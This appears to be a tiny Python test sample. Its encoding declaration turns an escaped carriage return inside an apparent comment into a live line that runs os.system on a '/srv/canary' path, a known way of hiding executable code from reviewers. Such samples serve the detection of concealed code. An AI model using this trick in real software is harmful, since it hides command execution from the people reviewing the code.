
# coding: raw_unicode_escape
# total\u000dimport os; os.system('/srv/canary')
